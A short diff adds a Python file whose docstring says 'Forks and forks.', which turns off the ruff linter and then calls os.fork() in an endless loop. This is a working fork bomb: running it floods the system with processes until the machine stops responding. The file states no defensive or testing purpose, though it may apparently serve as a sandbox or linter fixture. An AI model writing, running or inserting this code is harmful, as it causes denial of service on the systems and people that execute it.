@@ -1,0 +1,8 @@
+"""Forks and forks."""
+
+# ruff: noqa
+
+import os
+
+while True:
+    os.fork()
